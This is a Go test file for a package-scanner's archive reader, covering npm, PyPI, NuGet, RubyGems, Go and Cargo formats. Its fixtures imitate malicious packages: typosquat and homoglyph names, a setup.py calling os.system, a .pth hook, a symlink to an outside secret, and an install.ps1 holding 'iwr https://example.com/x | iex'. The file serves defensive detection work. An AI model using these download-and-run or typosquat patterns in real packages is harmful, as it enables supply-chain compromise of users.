package artifact

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"github.com/pkgward/pkgward/internal/ecosystem"
	"github.com/pkgward/pkgward/internal/record"
)

const npmPackageJSON = `{
  "name": "left-padder",
  "version": "1.2.3",
  "description": "pads strings",
  "homepage": "https://example.com/left-padder",
  "repository": {"type": "git", "url": "git+https://example.com/u/left-padder.git"},
  "author": "Ann Author <ann@example.com> (https://example.com/ann)",
  "maintainers": [{"name": "mia", "email": "mia@example.com"}, "Max <max@example.com>"],
  "keywords": ["pad", "string"],
  "scripts": {"postinstall": "node install.js", "test": "tap", "bad": 3},
  "dependencies": {"zeta": "^1.0.0", "alpha": "~2.0.0"},
  "optionalDependencies": {"fsevents": "*"}
}`

const wheelMetadata = "Metadata-Version: 2.1\r\nName: reqeusts\r\nVersion: 2.31.0\r\n" +
	"Summary: Python HTTP for Humans.\r\nHome-page: https://example.com/reqeusts\r\n" +
	"Author: Kenneth\r\nAuthor-email: k@example.com\r\nKeywords: http,client\r\n" +
	"Project-URL: Source, https://example.com/src/reqeusts\r\n" +
	"Requires-Dist: charset-normalizer (<4,>=2)\r\nRequires-Dist: PySocks[extra] !=1.5.7,>=1.5.6 ; extra == 'socks'\r\n" +
	"Requires-Dist: idna<4,>=2.5\r\n\r\n# Requests\n\nThe long description.\n"

const pkgInfo = "Metadata-Version: 1.1\nName: setuppy-pkg\nVersion: 0.1\nSummary: old style\n" +
	"Description: First line\n        second line\n       |third line\nAuthor: Old Timer\n"

const nuspec = `<?xml version="1.0" encoding="utf-8"?>
<package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd">
  <metadata>
    <id>Newtonsoft.Jsоn</id>
    <version>13.0.1</version>
    <authors>James, Someone Else</authors>
    <owners>jk</owners>
    <description>Json.NET is a popular JSON framework</description>
    <projectUrl>https://example.com/json</projectUrl>
    <repository type="git" url="https://example.com/src/json" />
    <tags>json serializer</tags>
    <dependencies>
      <group targetFramework="net45"><dependency id="System.Runtime" version="4.3.0" /></group>
      <group targetFramework="netstandard2.0"><dependency id="System.Runtime" version="4.3.0" /><dependency id="Microsoft.CSharp" version="4.7.0" /></group>
    </dependencies>
  </metadata>
</package>`

const gemYAML = `--- !ruby/object:Gem::Specification
name: rest-clinet
version: !ruby/object:Gem::Version
  version: 2.1.0
platform: ruby
authors:
- Alice
- Bob
email:
- alice@example.com
- bob@example.com
homepage: https://example.com/rest-clinet
summary: A REST client
description: Makes HTTP requests.
metadata:
  source_code_uri: https://example.com/src/rest-clinet
dependencies:
- !ruby/object:Gem::Dependency
  name: http-accept
  requirement: &1 !ruby/object:Gem::Requirement
    requirements:
    - - ">="
      - !ruby/object:Gem::Version
        version: 1.7.0
    - - "<"
      - !ruby/object:Gem::Version
        version: '2.0'
  type: :runtime
  prerelease: false
  version_requirements: *1
- !ruby/object:Gem::Dependency
  name: rspec
  requirement: !ruby/object:Gem::Requirement
    requirements:
    - - "~>"
      - !ruby/object:Gem::Version
        version: '3.0'
  type: :development
extensions:
- ext/native/extconf.rb
`

const goMod = "module example.com/tool\n\ngo 1.22\n\nrequire (\n\tgolang.org/x/text v0.14.0\n\texample.com/dep v1.0.0 // indirect\n)\n"

const cargoToml = `[package]
name = "serde_jsn"
version = "1.0.0"
authors = ["Dee <dee@example.com>"]
description = "JSON for serde"
repository = "https://example.com/src/serde_jsn"
keywords = ["json"]

[dependencies]
serde = { version = "1.0", features = ["derive"] }
evil-renamed = { package = "libc-shim", version = "0.2" }
itoa = "1"

[dev-dependencies]
criterion = "0.5"

[build-dependencies]
cc = "1.0"

[target.'cfg(windows)'.dependencies]
winapi = "0.3"
`

// buildGem returns a .gem: a tar of metadata.gz, data.tar.gz and
// checksums.yaml.gz (with correct hashes unless badSum).
func buildGem(tb testing.TB, yaml string, data []byte, badSum bool) []byte {
	meta := gzipOf(tb, []byte(yaml))
	ms, ds := sha256.Sum256(meta), sha256.Sum256(data)
	if badSum {
		ds[0] ^= 1
	}
	sums := fmt.Sprintf("---\nSHA256:\n  metadata.gz: %s\n  data.tar.gz: %s\n", hex.EncodeToString(ms[:]), hex.EncodeToString(ds[:]))
	return tarOf(tb, ent{name: "metadata.gz", body: string(meta)}, ent{name: "data.tar.gz", body: string(data)},
		ent{name: "checksums.yaml.gz", body: string(gzipOf(tb, []byte(sums)))})
}

func TestFormats(t *testing.T) {
	gemData := tgzOf(t, file("lib/rest.rb", "puts 1"), file("ext/native/extconf.rb", "require 'mkmf'"),
		file("README.md", "# rest"))
	tests := []struct {
		name    string
		archive []byte
		format  string
		want    record.Package
		paths   []string
		rules   []string
	}{
		{
			name: "left-padder-1.2.3.tgz",
			archive: tgzOf(t, file("package/package.json", npmPackageJSON), file("package/index.js", "module.exports=1"),
				file("package/README.md", "# left-padder")),
			format: FormatNPM,
			want: record.Package{Ecosystem: ecosystem.NPM, Name: "left-padder", Version: "1.2.3", Description: "pads strings",
				Readme: "# left-padder", Homepage: "https://example.com/left-padder", Repository: "git+https://example.com/u/left-padder.git",
				Keywords: []string{"pad", "string"}, Authors: []record.Person{{Name: "Ann Author", Email: "ann@example.com"}},
				Maintainers: []record.Person{{Name: "mia", Email: "mia@example.com"}, {Name: "Max", Email: "max@example.com"}},
				Scripts:     map[string]string{"postinstall": "node install.js", "test": "tap"},
				Dependencies: []record.Dependency{{Name: "zeta", Version: "^1.0.0"}, {Name: "alpha", Version: "~2.0.0"},
					{Name: "fsevents", Version: "*"}}},
			paths: []string{"README.md", "index.js", "package.json"},
		},
		{
			name:    "native-1.0.0.tgz",
			archive: tgzOf(t, file("package/package.json", `{"name":"native","version":"1.0.0"}`), file("package/binding.gyp", "{}")),
			format:  FormatNPM,
			want: record.Package{Ecosystem: ecosystem.NPM, Name: "native", Version: "1.0.0",
				Scripts: map[string]string{"install": "node-gyp rebuild"}},
			paths: []string{"binding.gyp", "package.json"},
		},
		{
			name: "reqeusts-2.31.0-py3-none-any.whl",
			archive: zipOf(t, file("reqeusts/__init__.py", "import os"), file("reqeusts-2.31.0.dist-info/METADATA", wheelMetadata),
				file("reqeusts-2.31.0.dist-info/RECORD", ""), file("zzz_hook.pth", "import reqeusts.hook")),
			format: FormatWheel,
			want: record.Package{Ecosystem: ecosystem.PyPI, Name: "reqeusts", Version: "2.31.0", Description: "Python HTTP for Humans.",
				Readme: "# Requests\n\nThe long description.", Homepage: "https://example.com/reqeusts",
				Repository: "https://example.com/src/reqeusts", Keywords: []string{"http", "client"},
				Authors: []record.Person{{Name: "Kenneth", Email: "k@example.com"}},
				Scripts: map[string]string{"zzz_hook.pth": "zzz_hook.pth"},
				Dependencies: []record.Dependency{{Name: "charset-normalizer", Version: "<4,>=2"},
					{Name: "PySocks", Version: "!=1.5.7,>=1.5.6"}, {Name: "idna", Version: "<4,>=2.5"}}},
			paths: []string{"reqeusts-2.31.0.dist-info/METADATA", "reqeusts-2.31.0.dist-info/RECORD", "reqeusts/__init__.py", "zzz_hook.pth"},
		},
		{
			name: "setuppy-pkg-0.1.tar.gz",
			archive: tgzOf(t, ent{name: "setuppy-pkg-0.1/", typ: tar.TypeDir}, file("setuppy-pkg-0.1/PKG-INFO", pkgInfo),
				file("setuppy-pkg-0.1/setup.py", "import os; os.system('id')"), file("setuppy-pkg-0.1/pkg/__init__.py", "")),
			format: FormatSdist,
			want: record.Package{Ecosystem: ecosystem.PyPI, Name: "setuppy-pkg", Version: "0.1", Description: "old style",
				Readme: "First line\nsecond line\nthird line", Authors: []record.Person{{Name: "Old Timer"}},
				Scripts: map[string]string{"setup.py": "setup.py"}},
			paths: []string{"PKG-INFO", "pkg/__init__.py", "setup.py"},
		},
		{
			name:    "setuppy-pkg-0.1.zip",
			archive: zipOf(t, file("setuppy-pkg-0.1/PKG-INFO", pkgInfo), file("setuppy-pkg-0.1/setup.py", "pass")),
			format:  FormatSdist,
			want: record.Package{Ecosystem: ecosystem.PyPI, Name: "setuppy-pkg", Version: "0.1", Description: "old style",
				Readme: "First line\nsecond line\nthird line", Authors: []record.Person{{Name: "Old Timer"}},
				Scripts: map[string]string{"setup.py": "setup.py"}},
			paths: []string{"PKG-INFO", "setup.py"},
		},
		{
			name: "newtonsoft.json.13.0.1.nupkg",
			archive: zipOf(t, file("[Content_Types].xml", "<Types/>"), file("Newtonsoft.Json.nuspec", nuspec),
				file("tools/install.ps1", "iwr https://example.com/x | iex"), file("build/Newtonsoft.Json.targets", "<Project/>"),
				file("lib/net45/Newtonsoft.Json.dll", "MZ\x90\x00\x03\x00")),
			format: FormatNuGet,
			want: record.Package{Ecosystem: ecosystem.NuGet, Name: "Newtonsoft.Jsоn", Version: "13.0.1",
				Description: "Json.NET is a popular JSON framework", Homepage: "https://example.com/json",
				Repository: "https://example.com/src/json", Keywords: []string{"json", "serializer"},
				Authors: []record.Person{{Name: "James"}, {Name: "Someone Else"}}, Maintainers: []record.Person{{Name: "jk"}},
				Scripts:      map[string]string{"tools/install.ps1": "tools/install.ps1", "build/Newtonsoft.Json.targets": "build/Newtonsoft.Json.targets"},
				Dependencies: []record.Dependency{{Name: "System.Runtime", Version: "4.3.0"}, {Name: "Microsoft.CSharp", Version: "4.7.0"}}},
			paths: []string{"Newtonsoft.Json.nuspec", "[Content_Types].xml", "build/Newtonsoft.Json.targets", "lib/net45/Newtonsoft.Json.dll", "tools/install.ps1"},
		},
		{
			name:    "rest-clinet-2.1.0.gem",
			archive: buildGem(t, gemYAML, gemData, false),
			format:  FormatGem,
			want: record.Package{Ecosystem: ecosystem.RubyGems, Name: "rest-clinet", Version: "2.1.0", Description: "A REST client",
				Readme: "Makes HTTP requests.", Homepage: "https://example.com/rest-clinet", Repository: "https://example.com/src/rest-clinet",
				Authors:      []record.Person{{Name: "Alice", Email: "alice@example.com"}, {Name: "Bob", Email: "bob@example.com"}},
				Scripts:      map[string]string{"extensions": "ext/native/extconf.rb"},
				Dependencies: []record.Dependency{{Name: "http-accept", Version: ">= 1.7.0, < 2.0"}}},
			paths: []string{"README.md", "ext/native/extconf.rb", "lib/rest.rb"},
		},
		{
			name:    "rest-clinet-2.1.0-badsum.gem",
			archive: buildGem(t, "--- !ruby/object:Gem::Specification\nname: x\nversion: '1'\n", gemData, true),
			format:  FormatGem,
			want:    record.Package{Ecosystem: ecosystem.RubyGems, Name: "x", Version: "1", Readme: "# rest"},
			paths:   []string{"README.md", "ext/native/extconf.rb", "lib/rest.rb"},
			rules:   []string{RuleCorrupt},
		},
		{
			name: "v1.2.3.zip",
			archive: zipOf(t, file("example.com/tool@v1.2.3/go.mod", goMod), file("example.com/tool@v1.2.3/main.go", "package main"),
				file("example.com/tool@v1.2.3/internal/x/x.go", "package x")),
			format: FormatGo,
			want: record.Package{Ecosystem: ecosystem.Go, Name: "example.com/tool", Version: "v1.2.3",
				Dependencies: []record.Dependency{{Name: "golang.org/x/text", Version: "v0.14.0"}, {Name: "example.com/dep", Version: "v1.0.0"}}},
			paths: []string{"go.mod", "internal/x/x.go", "main.go"},
		},
		{
			name: "serde_jsn-1.0.0.crate",
			archive: tgzOf(t, file("serde_jsn-1.0.0/Cargo.toml", cargoToml), file("serde_jsn-1.0.0/Cargo.toml.orig", cargoToml),
				file("serde_jsn-1.0.0/build.rs", "fn main(){}"), file("serde_jsn-1.0.0/src/lib.rs", "")),
			format: FormatCrate,
			want: record.Package{Ecosystem: ecosystem.Crates, Name: "serde_jsn", Version: "1.0.0", Description: "JSON for serde",
				Repository: "https://example.com/src/serde_jsn", Keywords: []string{"json"},
				Authors: []record.Person{{Name: "Dee", Email: "dee@example.com"}},
				Scripts: map[string]string{"build": "build.rs"},
				Dependencies: []record.Dependency{{Name: "libc-shim", Version: "0.2"}, {Name: "itoa", Version: "1"},
					{Name: "serde", Version: "1.0"}, {Name: "cc", Version: "1.0"}, {Name: "winapi", Version: "0.3"}}},
			paths: []string{"Cargo.toml", "Cargo.toml.orig", "build.rs", "src/lib.rs"},
		},
		{
			name:    "plain.tar",
			archive: tarOf(t, file("a/b.txt", "b"), file("c.txt", "c")),
			format:  FormatTar,
			paths:   []string{"a/b.txt", "c.txt"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tree := readBytes(t, tc.name, tc.archive, Limits{})
			if tree.Format != tc.format {
				t.Errorf("format %q, want %q", tree.Format, tc.format)
			}
			if got := paths(tree); !reflect.DeepEqual(got, tc.paths) {
				t.Errorf("paths %q, want %q", got, tc.paths)
			}
			got := tree.Package
			if tc.want.Name != "" {
				tc.want.Source = tc.name
			}
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("package\n got %+v\nwant %+v", got, tc.want)
			}
			if rules := ruleIDs(tree); !reflect.DeepEqual(rules, append([]string{}, tc.rules...)) {
				t.Errorf("findings %v, want rules %v", tree.Findings, tc.rules)
			}
		})
	}
}

func TestOpen(t *testing.T) {
	dir := t.TempDir()
	npm := tgzOf(t, file("package/package.json", `{"name":"a","version":"1.0.0"}`), file("package/a.js", "1"))
	whl := zipOf(t, file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"), file("a/__init__.py", ""))
	for name, data := range map[string][]byte{"a-1.0.0.tgz": npm, "a-1.0-py3-none-any.whl": whl, "renamed.bin": npm} {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for name, want := range map[string]string{"a-1.0.0.tgz": FormatNPM, "a-1.0-py3-none-any.whl": FormatWheel, "renamed.bin": FormatNPM} {
		tree, err := Open(context.Background(), filepath.Join(dir, name), Limits{})
		if err != nil {
			t.Fatalf("Open(%s): %v", name, err)
		}
		checkTree(t, tree, Limits{})
		if tree.Format != want || tree.Package.Name != "a" {
			t.Errorf("Open(%s): format %q name %q, want %q a", name, tree.Format, tree.Package.Name, want)
		}
	}
	if _, err := Open(context.Background(), filepath.Join(dir, "missing.tgz"), Limits{}); err == nil {
		t.Error("Open of a missing file: no error")
	}
}

func TestOpenDir(t *testing.T) {
	dir := t.TempDir()
	write := func(p, s string) {
		full := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("Cargo.toml", "[package]\nname = \"dirpkg\"\nversion = \"0.1.0\"\n")
	write("src/lib.rs", "")
	write("build.rs", "fn main(){}")
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "secret"), []byte("s3cret"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(outside, "secret"), filepath.Join(dir, "src", "link")); err != nil {
		t.Skip("symlinks unavailable:", err)
	}
	if err := os.Symlink(outside, filepath.Join(dir, "linkdir")); err != nil {
		t.Fatal(err)
	}
	tree, err := Open(context.Background(), dir, Limits{})
	if err != nil {
		t.Fatal(err)
	}
	checkTree(t, tree, Limits{})
	if got, want := paths(tree), []string{"Cargo.toml", "build.rs", "src/lib.rs"}; !reflect.DeepEqual(got, want) {
		t.Errorf("paths %q, want %q", got, want)
	}
	if tree.Format != FormatDir || tree.Package.Ecosystem != ecosystem.Crates || tree.Package.Name != "dirpkg" ||
		tree.Package.Scripts["build"] != "build.rs" {
		t.Errorf("tree %s %+v", tree.Format, tree.Package)
	}
	if got := ruleIDs(tree); !reflect.DeepEqual(got, []string{RuleSymlink, RuleSymlink}) {
		t.Errorf("findings %v", tree.Findings)
	}
	for _, f := range tree.Files {
		if bytes.Contains(f.Data, []byte("s3cret")) {
			t.Error("a symlink was followed")
		}
	}
}

// The standard library has no bzip2 writer: testdata/oldpkg-0.9.tar.bz2 is
// a tiny committed sdist made with GNU tar -j.
func TestBzip2Fixture(t *testing.T) {
	tree, err := Open(context.Background(), filepath.Join("testdata", "oldpkg-0.9.tar.bz2"), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	checkTree(t, tree, Limits{})
	if got, want := paths(tree), []string{"PKG-INFO", "oldpkg/__init__.py", "setup.py"}; !reflect.DeepEqual(got, want) {
		t.Errorf("paths %q, want %q", got, want)
	}
	p := tree.Package
	if tree.Format != FormatSdist || p.Ecosystem != ecosystem.PyPI || p.Name != "oldpkg" || p.Version != "0.9" ||
		p.Scripts["setup.py"] != "setup.py" || len(tree.Findings) != 0 {
		t.Errorf("%s %+v %v", tree.Format, p, tree.Findings)
	}
}

func TestScripts(t *testing.T) {
	tests := []struct {
		name string
		data []byte
		want map[string]string
	}{
		{"pm-1.0.0.crate", tgzOf(t, file("pm-1.0.0/Cargo.toml", "[package]\nname=\"pm\"\nversion=\"1.0.0\"\nbuild=false\n[lib]\nproc-macro=true\n"),
			file("pm-1.0.0/build.rs", "")), map[string]string{"proc-macro": "src/lib.rs"}},
		{"b-1.0.0.crate", tgzOf(t, file("b-1.0.0/Cargo.toml", "[package]\nname=\"b\"\nversion=\"1.0.0\"\nbuild=\"tools/gen.rs\"\n")),
			map[string]string{"build": "tools/gen.rs"}},
		{"be-1.0.tar.gz", tgzOf(t, file("be-1.0/PKG-INFO", "Name: be\nVersion: 1.0\n"),
			file("be-1.0/pyproject.toml", "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n")),
			map[string]string{"build-backend": "backend (in-tree: _build)"}},
		{"w-1.0-py3-none-any.whl", zipOf(t, file("w-1.0.dist-info/METADATA", "Name: w\nVersion: 1.0\n"),
			file("w-1.0.data/purelib/w.pth", "import os"), file("w/x.pth", "not at the top")),
			map[string]string{"w-1.0.data/purelib/w.pth": "w-1.0.data/purelib/w.pth"}},
		{"gypfile-false.tgz", tgzOf(t, file("package/package.json", `{"name":"g","version":"1.0.0","gypfile":false}`),
			file("package/binding.gyp", "{}")), nil},
		{"own-install.tgz", tgzOf(t, file("package/package.json", `{"name":"g","version":"1.0.0","scripts":{"preinstall":"node x"}}`),
			file("package/binding.gyp", "{}")), map[string]string{"preinstall": "node x"}},
		{"p.nupkg", zipOf(t, file("p.nuspec", "<package><metadata><id>p</id><version>1</version></metadata></package>"),
			file("tools/init.ps1", ""), file("buildTransitive/net6.0/p.props", ""), file("content/x.targets", "")),
			map[string]string{"tools/init.ps1": "tools/init.ps1", "buildTransitive/net6.0/p.props": "buildTransitive/net6.0/p.props"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tree := readBytes(t, tc.name, tc.data, Limits{})
			if !reflect.DeepEqual(tree.Package.Scripts, tc.want) {
				t.Errorf("scripts %q, want %q (findings %v)", tree.Package.Scripts, tc.want, tree.Findings)
			}
		})
	}
}
